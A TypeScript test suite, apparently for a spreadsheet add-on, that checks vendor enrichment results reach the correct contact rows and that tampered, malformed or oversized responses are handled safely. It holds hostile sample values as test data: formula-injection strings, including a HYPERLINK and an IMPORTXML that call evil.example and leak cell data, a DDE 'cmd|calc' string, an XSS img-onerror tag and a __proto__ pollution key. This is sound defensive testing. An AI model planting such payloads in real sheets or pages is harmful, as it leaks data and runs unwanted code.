// What a finished workflow may hold: every value in the row of its contact, or in the log, never in another's row, never as a
// formula, never cut short in silence.
import type { WorkflowMode } from '../../local/vendors/cleanlist/workflow-mode';
import type { Addon } from '../support/addon';
import { HEADERS, people } from '../support/people';
import { brokenPromises, lines, wrongValues } from '../support/witness';
import {
  begin,
  EMULATOR,
  decide,
  faultsOf,
  type Json,
  letPass,
  tamperBody,
  tamperItems,
} from './vendor-story';

/** Of every sheet, the log too. */
function formulas({ workbook }: Addon): string[] {
  return workbook.sheets.flatMap((sheet) =>
    sheet
      .displayed()
      .flatMap((row, at) => row.map((_cell, column) => sheet.formula(at + 1, column + 1)))
      .filter((formula) => formula !== ''),
  );
}

const BOTH = { channels: ['email', 'phone'] as const };

describe('results', () => {
  test.each<[string, WorkflowMode]>([
    ['extra ones, of people who were not sent', { items: ['extra'] }],
    ['extra ones, shuffled', { items: ['extra', 'shuffled'] }],
    ['extra ones, echoed', { items: ['extra', 'shuffled', 'doubled'], shape: 'echo' }],
  ])('%s, go to the log and to no row', (_, mode) => {
    const { addon, run } = begin(6);
    addon.vendor.faults.nextWorkflow(mode);
    const end = letPass(addon, run, 60, 1);
    expect(end).toMatchObject({ state: 'closed', found: { email: 6 }, unplaced: 3 });
    const strangers = lines(addon, 'unplaced').map(({ after }) => after);
    expect(strangers.every((value) => value.includes('stranger.example'))).toBe(true);
    expect(addon.column('Email').some((value) => value.includes('stranger'))).toBe(false);
    expect(faultsOf(addon, end)).toEqual([]);
  });

  test.each<[string, (item: Json) => Json]>([
    [
      'strings, as numbers and nulls',
      (item) => ({ ...item, prospect: { first_name: 7, last_name: null } }),
    ],
    [
      'objects, as lists',
      (item) => ({ ...item, prospect: [item.prospect], company: [item.company] }),
    ],
    ['task ids, as numbers', (item) => ({ ...item, task_id: 7, prospect: null, company: null })],
    ['names, of nobody', (item) => ({ ...item, prospect: { first_name: 'X', last_name: 'Y' } })],
  ])('without anything to go by (%s) are held, and placed nowhere', (_, change) => {
    const { addon, run } = begin(6);
    addon.vendor.faults.nextWorkflow({ taskIds: 'missing' });
    tamperItems(addon, change);
    const view = letPass(addon, run, 60, 1);
    expect(view.attention).toMatchObject([{ state: 'held', decisions: ['place', 'keep'] }]);
    expect(view.attention[0]?.message).toMatch(/Nothing in the answer ties/);
    expect(lines(addon, 'unplaced')).toHaveLength(6);
    expect(faultsOf(addon, view)).toEqual([]);
    const end = addon.workToEnd(decide(addon, view, 'place'));
    expect(end).toMatchObject({ state: 'closed', unplaced: 6 });
    expect(lines(addon, 'unplaced')).toHaveLength(6);
    expect(addon.column('Email').join('')).toBe('');
  });

  test.each<[string, WorkflowMode, (items: Json[]) => unknown[]]>([
    ['phones as objects', { phones: 'objects' }, (items) => items],
    ['phones as objects, echoed', { phones: 'objects', shape: 'echo' }, (items) => items],
    [
      'an e-mail and a phone in two results',
      {},
      (items) =>
        items.flatMap((item) => [
          { ...item, personal_phone_numbers: [] },
          { ...item, primary_email: null },
        ]),
    ],
    [
      'names and domains in another spelling',
      {},
      (items) =>
        items.map((item) => {
          const { first_name, last_name } = item.prospect as Record<string, string>;
          const { domain, name } = item.company as Record<string, string>;
          return {
            ...item,
            prospect: { first_name: first_name?.toUpperCase(), last_name: ` ${last_name} ` },
            company: { name: `${name} GmbH`, domain: `https://WWW.${domain}/about` },
          };
        }),
    ],
    ['values between junk', {}, (items) => [null, 7, 'x', [], {}, ...items, { status: 'failed' }]],
    [
      'keys of prototypes',
      {},
      (items) =>
        items.map(
          (item) =>
            JSON.parse(
              `{"__proto__":{"email":"evil@evil.example"},"constructor":{},${JSON.stringify(item).slice(1)}`,
            ) as unknown,
        ),
    ],
    [
      'addresses with a name around them',
      {},
      (items) =>
        items.map((item) => ({ ...item, primary_email: `Who <${String(item.primary_email)}>` })),
    ],
    [
      '5,000 results, the same ones again and again',
      {},
      (items) => Array.from({ length: 5_000 }, (_none, index) => items[index % items.length]),
    ],
    [
      '20,000 levels and a megabyte of other things',
      {},
      (items) => items.map((item) => ({ ...item, junk: 'x'.repeat(170_000), error: null })),
    ],
  ])('with %s are read as they are meant', (_, mode, change) => {
    const { addon, run } = begin(6, BOTH);
    addon.vendor.faults.nextWorkflow(mode);
    tamperBody(addon, 'status', (body) => ({ ...body, results: change(body.results as Json[]) }));
    const end = letPass(addon, run, 60, 1);
    expect(end).toMatchObject({ state: 'closed', found: { email: 6, phone: 6 }, unplaced: 0 });
    expect(JSON.stringify(addon.shown())).not.toContain('evil');
    expect(faultsOf(addon, end)).toEqual([]);
  });

  test('more than a batch can have are no answer: they are read again, and nothing is written', () => {
    const { addon, run } = begin(3);
    let reads = 0;
    tamperBody(addon, 'status', (body) => {
      const results = Array.from({ length: 3_000 }, (_none, index) => ({
        email: `n${index}@nobody.example`,
      }));
      return ++reads === 1 ? { ...body, results } : body;
    });
    const end = letPass(addon, run, 60, 1);
    expect(end).toMatchObject({ state: 'closed', found: { email: 3 }, unplaced: 0 });
    expect(faultsOf(addon, end)).toEqual([]);
  });

  test('of which some are of failed lookups say so in their rows', () => {
    const { addon, run } = begin(4, {}, { ...EMULATOR, shape: 'echo' });
    tamperItems(addon, (item, index) =>
      index === 0
        ? { ...item, result: {}, error: { message: '<b>No provider</b> answered' } }
        : item,
    );
    const end = letPass(addon, run, 60, 1);
    expect(end).toMatchObject({ state: 'closed', found: { email: 3 } });
    expect(addon.column('Enrichment status')[0]).toMatch(/^Failed/);
    expect(addon.column('Enrichment status')[0]).not.toContain('<b>');
  });
});

test('a namesake whose row was deleted in flight leaves no value in the other’s row', () => {
  const headers = ['LinkedIn', 'First name', 'Last name', 'Company', 'Website', 'Email'];
  const john = (slug: string): string[] => [
    `https://www.linkedin.com/in/${slug}`,
    ...['John', 'Smith', 'Acme', 'acme.example', ''],
  ];
  const { addon, run } = begin([headers, john('john-1'), john('john-2')]);
  addon.vendor.faults.nextWorkflow({ taskIds: 'missing' });
  tamperItems(addon, (item, index) => ({
    ...item,
    primary_email: `john${index + 1}@acme.example`,
  }));
  addon.work(run);
  addon.sheet.deleteRows(2, 1);
  tamperBody(addon, 'status', (body) => ({
    ...body,
    results: (body.results as Json[]).slice(0, 1),
  }));
  const view = letPass(addon, run, 60, 1);
  expect(view.attention).toMatchObject([{ state: 'held' }]);
  expect(addon.column('Email')).toEqual(['']);
  // The second line says that the vendor counts one value more than it gave.
  expect(lines(addon, 'unplaced').map(({ after }) => after)).toEqual(['john1@acme.example', '']);
});

describe('values', () => {
  test('that are masked are none, and never stand in a cell', () => {
    const { addon, run } = begin(6, BOTH);
    addon.vendor.faults.nextWorkflow({ values: 'masked' });
    const end = letPass(addon, run, 60, 1);
    expect(end).toMatchObject({ state: 'closed', found: { email: 0, phone: 0 } });
    expect(JSON.stringify(addon.shown())).not.toMatch(/\*\*\*|protected/);
  });

  const HOSTILE: readonly (readonly [string, string, string])[] = [
    [
      '=HYPERLINK("https://evil.example?"&A2,"5")',
      '=HYPERLINK("https://evil.example?"&A2,"5")',
      'a formula',
    ],
    ['=1+1', '=1+1', 'a sum'],
    ['+1+cmd|calc', '+1+cmd|calc', 'a plus'],
    ['-2+3', '-2+3', 'a minus'],
    ['@SUM(1+1)', '@SUM(1+1)', 'an at sign'],
    ['\t=1+1', '=1+1', 'a tab'],
    ['\r=1+1', '=1+1', 'a line end'],
    ["'=1+1", "'=1+1", 'an apostrophe'],
    ['007', '007', 'zeros'],
    ['1e5', '1e5', 'an exponent'],
    ['3/4/2026', '3/4/2026', 'a date'],
    ['<img src=x onerror=alert(1)>07', '<img src=x onerror=alert(1)>07', 'markup'],
    ['\u202e5550100\u202c', '\u202e5550100\u202c', 'text from right to left'],
    ['٠١٢٣٤٥٦٧', '٠١٢٣٤٥٦٧', 'digits of another script'],
    ['+49\u0000301', '+49\u0000301', 'a null byte'],
    ['5'.repeat(60_000), '5'.repeat(49_999), '60,000 characters'],
  ];

  test.each(HOSTILE)('%p stays the text %p (%s)', (sent, shown) => {
    const { addon, run } = begin(1, { channels: ['phone'] });
    tamperItems(addon, (item) => ({ ...item, personal_phone_numbers: [sent] }));
    const end = letPass(addon, run, 60, 1);
    expect(end).toMatchObject({ state: 'closed', found: { phone: 1 } });
    const [phone] = addon.column('Phone');
    expect(phone).toBe(shown);
    expect(formulas(addon)).toEqual([]);
    expect(lines(addon, 'written')[0]?.after).toContain(shown.slice(0, 1_000));
  });

  test('in every other field of a result are text as well, in cells and in the log', () => {
    const evil = '=IMPORTXML("https://evil.example","//a")';
    const { addon, run } = begin(3, BOTH, { ...EMULATOR, shape: 'echo' });
    tamperBody(addon, 'status', (body) => ({
      ...body,
      status: 'completed',
      results: (body.results as Json[]).map((item, index) =>
        index === 0
          ? { ...item, error: evil, result: {} }
          : index === 1
            ? { ...item, result: { ...(item.result as Json), email_status: evil } }
            : { ...item, input: { first_name: evil, last_name: evil, company_name: evil } },
      ),
    }));
    const end = letPass(addon, run, 60, 1);
    expect(end.state).toBe('closed');
    expect(formulas(addon)).toEqual([]);
    expect(wrongValues(addon)).toEqual([]);
  });

  test('for names of other scripts, from right to left, and with marks find their rows', () => {
    const rows = [
      [...HEADERS],
      ...[
        ['山', '田', '株式会社サンプル'],
        ['محمد', 'العلي', 'شركة'],
        ['שרה', 'לוי', 'חברה'],
        ['José', 'Núñez', 'Ça'],
        ['Łukasz', 'Żółć', 'Ł'],
        ['\u202bAda\u202c', 'O’Neil-Smith', 'Straße & Söhne'],
        ['प्रिया', 'शर्मा', 'कंपनी'],
      ].map(([first = '', last = '', company = '']) => [first, last, company, '', '', '']),
    ];
    for (const shape of ['flat', 'echo'] as const) {
      const { addon, run } = begin(rows, BOTH, { ...EMULATOR, shape });
      addon.vendor.faults.nextWorkflow({ items: ['shuffled'], taskIds: 'missing' });
      const end = letPass(addon, run, 60, 1);
      expect(end).toMatchObject({ state: 'closed', found: { email: 7, phone: 7 }, unplaced: 0 });
      expect(brokenPromises(addon)).toEqual([]);
    }
  });
});

test('a cost that the vendor names is shown as it is; without one it is reckoned', () => {
  const { addon, run } = begin(people(4), BOTH);
  addon.vendor.faults.nextWorkflow({ charged: true });
  const end = letPass(addon, run, 60, 1);
  expect(end.costs).toMatchObject([{ charged: 44, estimated: false }]);
});
